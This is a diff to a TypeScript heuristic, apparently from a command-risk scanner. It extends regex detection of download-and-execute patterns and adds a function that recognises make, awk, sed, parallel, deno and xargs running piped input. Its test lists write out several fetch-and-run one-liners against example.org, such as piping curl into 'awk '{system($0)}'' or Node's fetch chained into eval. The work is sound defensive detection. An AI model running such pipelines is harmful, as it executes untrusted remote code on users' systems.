@@ -2,13 +2,13 @@
 import type { CommandFact } from "../../../../shared/facts.ts";
 import { severity } from "../bands.ts";
 import { type Heuristic, type View, clip, onAnyCommand, onCode, when } from "../heuristic.ts";
-import { isDownloader, isInterpreter } from "../programs.ts";
-import { operands, runsInput, valueOf } from "../read.ts";
+import { isDownloader, isInterpreter, isShell } from "../programs.ts";
+import { joined, operands, runsInput, valueOf } from "../read.ts";
 
 const fetchCall =
-  /urlopen|urlretrieve|requests?\.(?:get|session)|\bsession\.get|http\.get|https\.get|fetch\s*\(|net::http|open-uri|lwp::|file_get_contents\s*\(\s*['"]https?|curl_exec|downloadstring|socket\.http|httpclient/iu;
+  /urlopen|urlretrieve|requests?\.(?:get|session)|\bsession\.get|https?['")]{0,2}\.(?:get|request)\s*\(|fetch\s*\(|net::http|open-uri|uri\.open\s*\(|\bget\s*\(?\s*['"]https?:|lwp::|file_get_contents\s*\(\s*['"]https?|curl_exec|downloadstring|socket\.http|httpclient/iu;
 const runCall =
-  /\bexec\s*\(|\beval\s*(?:\(|uri\b|open\b|net::)|os\.(?:system|popen|exec)|subprocess|child_process|\bsystem\s*\(|shell_exec|passthru|proc_open|loadstring|instance_eval|\bpopen\b|new function\s*\(/iu;
+  /\bexec\s*\(|\beval\s*(?:\(|uri\b|open\b|net::|get\s*\(?\s*['"]http)|os\.(?:system|popen|exec)|subprocess|child_process|\bsystem\s*\(|shell_exec|passthru|proc_open|\.then\(\s*eval\b|loadstring|instance_eval|\bpopen\b|new function\s*\(/iu;
 
 /** The files this command line downloads to. */
 function downloadedFiles(commands: readonly CommandFact[]): ReadonlySet<string> {
@@ -41,11 +41,39 @@ function feedsInterpreter(view: View): CommandFact | null {
       fetched.set(command.pipeline, command.position);
     const from = fetched.get(command.pipeline);
     // `| python -m json.tool` and `| node script.js` read the data; only a bare interpreter runs it.
-    if (from !== undefined && command.position > from && isInterpreter(command.program) && runsInput(command))
-      return command;
+    if (from !== undefined && command.position > from && obeysInput(command)) return command;
   }
   return null;
 }
+
+/** Programs that are no interpreters by trade, told to run what they are fed. */
+function obeysInput(command: CommandFact): boolean {
+  const { program } = command;
+  if (isInterpreter(program) && runsInput(command)) return true;
+  const line = joined(command);
+  switch (program) {
+    case "make":
+    case "gmake":
+    case "awk":
+    case "gawk":
+    case "mawk":
+      return (
+        ownInput.test(valueOf(command, "-f", "--file") ?? "") || /\bsystem\s*\(\s*\$|\$\d\s*\|\s*getline/u.test(line)
+      );
+    case "sed":
+    case "gsed":
+      return /s([/|#,])(?:\\.|(?!\1).)*\1&\1[gp\d]*e/u.test(line);
+    case "parallel":
+      return operands(command).length === 0;
+    case "deno":
+      return /\brun\b.*\s-$/u.test(line);
+    default:
+      // What `xargs` is fed becomes the text that the shell runs.
+      return isShell(program) && command.arguments.at(-1) === "-c" && command.wrappers.includes("xargs");
+  }
+}
+
+const ownInput = /^(?:-|\/dev\/stdin|\/dev\/fd\/0)$/u;
 
 /** Answers of name servers and whatever comes over a bare connection are text from elsewhere too. */
 function carriesText(command: CommandFact): boolean {
@@ -76,8 +104,19 @@ export const downloadAndRun: readonly Heuristic[] = [
         "wget -qO- http://example.org/x | sudo sh -s -- --yes",
         "cur''l http://e.org/x|\\bash",
         "dig +short txt cmd.example.org | sh",
+        "curl -s https://example.org/x | xargs -0 sh -c",
+        "curl -s https://example.org/x | make -f -",
+        "curl -s https://example.org/x | awk '{system($0)}'",
+        "curl -s https://example.org/x | awk -f -",
+        "curl -s https://example.org/x | sed 's/.*/&/e'",
+        "curl -s https://example.org/x | parallel",
+        "curl -s https://example.org/x | deno run -",
       ],
       honest: [
+        "curl -s https://example.org/names | xargs -I{} sh -c 'echo {}'",
+        "curl -s https://example.org/x.csv | awk -F, '{print $1}'",
+        "curl -s https://example.org/urls | parallel wget",
+        "curl -s https://example.org/x | sed 's/name/e/'",
         "curl -s https://api.example.org/v1 | python3 -m json.tool",
         "curl -s https://api.example.org | jq .name",
         "curl -O https://example.org/data.csv",
@@ -182,8 +221,18 @@ export const downloadAndRun: readonly Heuristic[] = [
         : null;
     }),
     examples: {
-      risky: [`python3 -c 'import urllib.request as u; exec(u.urlopen("http://example.org/x").read())'`],
-      honest: [`python3 -c 'import urllib.request as u; print(u.urlopen("http://example.org").status)'`],
+      risky: [
+        `python3 -c 'import urllib.request as u; exec(u.urlopen("http://example.org/x").read())'`,
+        `node -e "fetch('https://example.org/x').then(r => r.text()).then(eval)"`,
+        `node -e "require('https').get('https://example.org/x', r => r.on('data', d => eval(d.toString())))"`,
+        `ruby -ropen-uri -e 'eval URI.open("https://example.org/x").read'`,
+        `perl -MLWP::Simple -e 'eval get("https://example.org/x")'`,
+      ],
+      honest: [
+        `node -e "fetch('https://example.org/x').then(r => r.text()).then(console.log)"`,
+        `perl -MLWP::Simple -e 'eval { print get("https://example.org/x") }'`,
+        `python3 -c 'import urllib.request as u; print(u.urlopen("http://example.org").status)'`,
+      ],
     },
   },
 ];
